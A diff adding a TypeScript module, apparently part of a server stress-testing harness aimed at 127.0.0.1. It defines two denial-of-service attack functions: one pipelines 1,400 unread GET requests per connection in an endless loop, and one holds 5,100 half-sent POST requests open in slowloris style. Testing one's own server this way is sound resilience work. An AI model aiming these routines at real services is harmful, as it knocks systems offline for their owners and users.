@@ -1,0 +1,21 @@
+import { setTimeout as sleep } from 'node:timers/promises'
+import type { Attack } from './target.ts'
+import { holdConnections, openConnection, requestText } from './traffic.ts'
+
+const [CONNECTIONS, PIPELINED, HELD_MS] = [5, 1_400, 10_000]
+
+/** Asks for the same page 1,400 times on each of five connections (300 KB sent) and reads none of the responses. */
+export const unreadPages: Attack = async (target, count) => {
+  const text = requestText({ method: 'GET', path: '/spec.json' }).repeat(PIPELINED)
+  for (;;) {
+    const sockets = Array.from({ length: CONNECTIONS }, () =>
+      openConnection(target, count, { text, onFirst: (socket) => socket.pause() }),
+    )
+    await sleep(HELD_MS)
+    for (const socket of sockets) socket.destroy()
+  }
+}
+
+/** 5,100 connections of one address, each in the middle of a request. */
+export const halfRequests: Attack = (target, count) =>
+  holdConnections(target, count, { most: 5_100, text: () => 'POST /api/v1/orders HTTP/1.1\r\nHost: 127.0.0.1\r\n' })
